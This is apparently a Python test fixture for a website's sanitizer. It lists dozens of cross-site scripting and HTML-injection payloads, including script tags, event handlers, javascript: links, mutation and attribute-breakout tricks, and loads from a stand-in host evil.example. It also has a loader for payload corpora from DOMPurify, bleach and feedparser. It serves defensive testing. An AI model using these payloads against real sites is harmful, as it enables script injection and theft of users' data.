"""Hostile texts: our own, which are always there, and the collections of the real data where that is.

Ours, once they run, set `ran` on the window, or ask another site for something. They aim at what this site does with
words: escapes them into text, attributes, a title, JSON and textareas; cleans them as bodies; hands them to an editor.
"""

import html
import json

RUN = "top.ran=1"
ELSEWHERE = "https://evil.example/"

OURS = [
    # Elements that run, or load
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}x.js></script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ſcript>{RUN}</ſcript>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img src={ELSEWHERE}p.gif>",
    f"<img srcset='{ELSEWHERE}p.gif 1x'>",
    f"<img src='{ELSEWHERE}?dangling=",
    f"<image src=x onerror={RUN}>",
    f"<picture><source srcset={ELSEWHERE}p.gif><img></picture>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#x\">",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}x.swf></object>",
    f"<embed src={ELSEWHERE}x.swf>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={ELSEWHERE}p.gif></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={RUN}>x</p>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN} background={ELSEWHERE}p.gif>",
    f"<table background={ELSEWHERE}p.gif><tr><td>x</td></tr></table>",
    f"<link rel=stylesheet href={ELSEWHERE}x.css>",
    f"<link rel=preload as=image href={ELSEWHERE}p.gif>",
    f"<style>@import '{ELSEWHERE}x.css'; body {{background: url({ELSEWHERE}p.gif)}}</style>",
    f"<p style='background:url({ELSEWHERE}p.gif)'>x</p>",
    f"<p style='animation: x 1s' onanimationstart={RUN}>x</p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button formaction=javascript:{RUN}>x</button></form>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--{'-' * 3}!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>",
    # Addresses that run
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#1;javascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='//evil.example/' ping={ELSEWHERE}>x</a>",
    f"javascript:{RUN}",
    # Out of what our pages put words into
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f"\" autofocus onfocus=\"{RUN}",
    f"' autofocus onfocus='{RUN}",
    f"`-{RUN}-`",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"{{{{ {RUN} }}}}{{% debug %}}",
    f"%3Cimg src=x onerror={RUN}%3E",
    # Our own marks, and names that our scripts look for
    f"<data data-fact='season:1:status\" onpointerover=\"{RUN}' data-form=label>x</data>",
    f"<data data-fact=season:1:status data-form='label\"><img src=x onerror={RUN}>'>x</data>",
    f"<a data-ref='show:1' href=javascript:{RUN}>x</a>",
    f"<a data-ref='show:1\" onfocus=\"{RUN}\" autofocus=\"'>x</a>",
    f"<div data-live-block='cast\"><img src=x onerror={RUN}>' data-ref=season:1></div>",
    f"<section data-while='season:1:status=ordered\"><img src=x onerror={RUN}>' data-hold=swap><p>x</p></section>",
    f"<figure data-picture='1\"><img src=x onerror={RUN}>'><figcaption>x</figcaption></figure>",
    f"<blockquote data-quote='1' cite=javascript:{RUN}><p onclick={RUN}>x</p></blockquote>",
    f"<h2 id=article_form onfocus={RUN}>x</h2>",
    "<form id=article_form><input name=_who value=x></form><a id=room-found name=body>x</a>",
    f"<script type=importmap>{{\"imports\": {{\"django-prose-editor/editor\": \"{ELSEWHERE}x.js\"}}}}</script>",
]  # fmt: skip


def of_the_collections(folder):
    """(name, text) of every hostile text in the collections: as it lies there, and feeds also unpacked."""
    for vector in json.loads((folder / "dompurify-expect.json").read_text()):
        yield f"dompurify {vector['n']}", vector["payload"]
    for path in sorted((folder / "bleach-data").glob("*.test")):
        yield path.name, path.read_text().split("\n--\n")[0]
    for path in sorted((folder / "feedparser-sanitize").glob("*.xml")):
        feed = path.read_text(encoding="utf-8", errors="replace").partition("-->")[2]
        yield path.name, feed
        yield f"{path.name}, unpacked", html.unescape(feed)
    for path in sorted((folder / "paste").glob("*.html")):
        yield path.name, path.read_text()
